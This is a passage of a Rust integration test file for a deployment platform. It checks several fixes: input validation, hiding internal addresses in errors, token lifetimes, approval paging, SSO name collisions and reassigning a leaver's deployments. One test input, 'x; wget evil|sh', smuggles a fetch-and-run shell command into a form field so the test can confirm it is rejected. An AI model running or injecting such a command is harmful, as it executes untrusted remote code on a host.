        "id: inject-ok\nname: Fine\nversion: 1\ninputs:\n  tag: {{ type: string, enum: [a, b] }}\n  word: {{ type: string, pattern: \"[a-z]+\" }}\ncomponents:\n  app:\n    image: {}\n    command: [\"sh\", \"-c\", \"echo ${{inputs.word}} ${{inputs.tag}}; sleep 3600\"]\n    env: {{ WORD: \"${{inputs.word}}\" }}\n",
        crate::helpers::test_image()
    );
    let res = w.admin.publish_blueprint(&ok).await;
    assert_eq!(res.status(), StatusCode::CREATED, "{}", res.text().await.unwrap_or_default());
    let res = w
        .admin
        .create_catalog_item(&json!({"id": "inject-ok", "name": "Fine", "category": "Web", "blueprint": "inject-ok",
        "lease": {"default_days": 1, "max_days": 1}}))
        .await;
    assert_eq!(res.status(), StatusCode::CREATED);
    // The pattern matches the whole value: a shell command after a word is refused.
    let res = w
        .dev
        .submit_request(&json!({"catalog_item": "inject-ok", "group": "team-a", "inputs": {"tag": "a", "word": "x; wget evil|sh"}}))
        .await;
    assert_eq!(res.status(), StatusCode::UNPROCESSABLE_ENTITY);
    let body: Value = res.json().await.unwrap();
    assert!(body.to_string().contains("inputs.word"), "{body}");

    // An engine error (a pull from an address on the platform's network) reaches the
    // requester without the address; the admin sees it whole.
    let bp = crate::fixtures::blueprint(crate::fixture!("blueprints/broken-image.yaml"), &[]);
    assert_eq!(w.admin.publish_blueprint(&bp).await.status(), StatusCode::CREATED);
    let res = w
        .admin
        .create_catalog_item(&json!({"id": "broken-image", "name": "Broken", "category": "Web", "blueprint": "broken-image",
        "lease": {"default_days": 1, "max_days": 1}}))
        .await;
    assert_eq!(res.status(), StatusCode::CREATED);
    let res = w.dev.submit_request(&json!({"catalog_item": "broken-image", "group": "team-a", "inputs": {}})).await;
    assert_eq!(res.status(), StatusCode::CREATED);
    let id = res.json::<Value>().await.unwrap()["id"].as_str().unwrap().to_string();
    let r = eventually(90, "the request to fail", || async {
        let r = w.dev.get_request_ok(&id).await;
        (r["status"] == "failed").then_some(r)
    })
    .await;
    let deployment = r["deployment_id"].as_str().unwrap().to_string();
    let seen = w.dev.get_deployment_ok(&deployment).await;
    assert!(!seen.to_string().contains("127.0.0.1:9") && !r.to_string().contains("127.0.0.1:9"), "{seen} {r}");
    assert!(seen["error"].as_str().unwrap().contains("[address]"), "{seen}");
    let whole = w.admin.get_deployment_ok(&deployment).await;
    assert!(whole["error"].as_str().unwrap().contains("127.0.0.1:9"), "{whole}");
}

/// Finding 14 (the rest): a token cannot make a token that outlives it; the approvals inbox
/// comes in pages; a single-sign-on user cannot take a reserved or a local account's name.
async fn tokens_inbox_and_sso_names(db: Db) {
    let app = spawn_app_with(db, crate::oidc::oidc_settings()).await;
    let w = crate::requests::world(&app).await;
    // A token from a password lasts 30 days: one it makes ends no later, whatever it asks for.
    let res = app.anonymous().auth_token("dev", &password_of("dev")).await;
    let first: Value = res.json().await.unwrap();
    let ends = chrono::DateTime::parse_from_rfc3339(first["expires_at"].as_str().unwrap()).unwrap();
    let client = reqwest::Client::new();
    let res = client
        .post(app.url("/api/v1/tokens"))
        .bearer_auth(first["token"].as_str().unwrap())
        .json(&json!({"name": "longer", "expires_in_days": 365}))
        .send()
        .await
        .unwrap();
    assert_eq!(res.status(), StatusCode::CREATED);
    let made: Value = res.json().await.unwrap();
    let made_ends = chrono::DateTime::parse_from_rfc3339(made["expires_at"].as_str().unwrap()).unwrap();
    assert!(made_ends <= ends, "{made_ends} outlives {ends}");

    // The inbox, a page at a time.
    let policy = json!({"name": "hold", "levels": [{"approvers": {"group_managers": true}, "mode": "any"}]});
    assert_eq!(w.admin.create_approval_policy(&policy).await.status(), StatusCode::CREATED);
    for _ in 0..3 {
        let res = w.dev.submit_request(&json!({"catalog_item": "web", "group": "team-a", "inputs": {}})).await;
        assert_eq!(res.status(), StatusCode::CREATED);
    }
    let res = w.lead.get("/api/v1/approvals?per_page=2").await;
    assert_eq!(res.status(), StatusCode::OK);
    assert_eq!(res.headers()["x-total-count"], "3");
    assert_eq!(res.json::<Value>().await.unwrap().as_array().unwrap().len(), 2);
    let res = w.lead.get("/api/v1/approvals?per_page=2&page=2").await;
    assert_eq!(res.json::<Value>().await.unwrap().as_array().unwrap().len(), 1);

    // Single sign-on: `system` and a local account's name are taken; the user gets another.
    for name in ["system", "dev"] {
        crate::oidc::provider_user(name, &[]);
        let b = crate::oidc::sso_login(&app, name).await;
        let who = crate::oidc::me(&b).await;
        assert_ne!(who["username"], name, "{who}");
        assert!(who["username"].as_str().unwrap().starts_with(name), "{who}");
    }
}

/// Finding 10 (the rest): the deployments of someone who left go to another member of the
/// group (admins only); a disabled approver is skipped.
async fn a_leavers_deployments_go_to_someone_else(db: Db) {
    let app = crate::helpers::spawn_app(db).await;
    let w = crate::requests::world(&app).await;
    let res = w.dev.submit_request(&json!({"catalog_item": "web", "group": "team-a", "inputs": {}})).await;
    assert_eq!(res.status(), StatusCode::CREATED);
    let id = res.json::<Value>().await.unwrap()["id"].as_str().unwrap().to_string();
    let r = eventually(90, "the request to succeed", || async {
        let r = w.dev.get_request_ok(&id).await;
        (r["status"] == "succeeded").then_some(r)
    })
    .await;
    let deployment = r["deployment_id"].as_str().unwrap().to_string();
    assert_eq!(w.admin.update_user("dev", &json!({"is_active": false})).await.status(), StatusCode::OK);
    let path = format!("/api/v1/deployments/{deployment}");
    assert_eq!(w.lead.patch(&path, &json!({"owner": "lead"})).await.status(), StatusCode::FORBIDDEN, "admins only");
    let res = w.admin.patch(&path, &json!({"owner": "nobody"})).await;
    assert_eq!(res.status(), StatusCode::UNPROCESSABLE_ENTITY);
    let res = w.admin.patch(&path, &json!({"owner": "lead"})).await;
    assert_eq!(res.status(), StatusCode::OK, "{}", res.text().await.unwrap_or_default());
    assert_eq!(w.lead.get_deployment_ok(&deployment).await["owner"], "lead");
    let audit = w.admin.get_audit_ok("action=deployment.owner").await;
    assert_eq!(audit[0]["details"], json!({"from": "dev", "to": "lead"}));
    assert_eq!(w.lead.deployment_action(&deployment, "destroy").await.status(), StatusCode::ACCEPTED);

    // A disabled approver is skipped: a level of named users falls to those still active.
    let res = w.admin.create_user(&json!({"username": "ops", "password": password_of("ops")})).await;
    assert_eq!(res.status(), StatusCode::CREATED);
    let policy = json!({"name": "named", "levels": [{"approvers": {"users": ["ops", "lead"]}, "mode": "all"}]});
    assert_eq!(w.admin.create_approval_policy(&policy).await.status(), StatusCode::CREATED);
    assert_eq!(w.admin.update_user("dev", &json!({"is_active": true})).await.status(), StatusCode::OK);
    let dev = app.api_as("dev", &password_of("dev")).await;
    let res = dev.submit_request(&json!({"catalog_item": "web", "group": "team-a", "inputs": {}})).await;
    let id = res.json::<Value>().await.unwrap()["id"].as_str().unwrap().to_string();
    assert_eq!(w.admin.update_user("ops", &json!({"is_active": false})).await.status(), StatusCode::OK);
    assert_eq!(w.admin.get_request_ok(&id).await["waiting_on"], json!(["lead"]));
    assert_eq!(w.lead.approve(&id).await.status(), StatusCode::OK);
    assert_ne!(w.admin.get_request_ok(&id).await["status"], "pending_approval", "lead alone completes the `all` level");
}
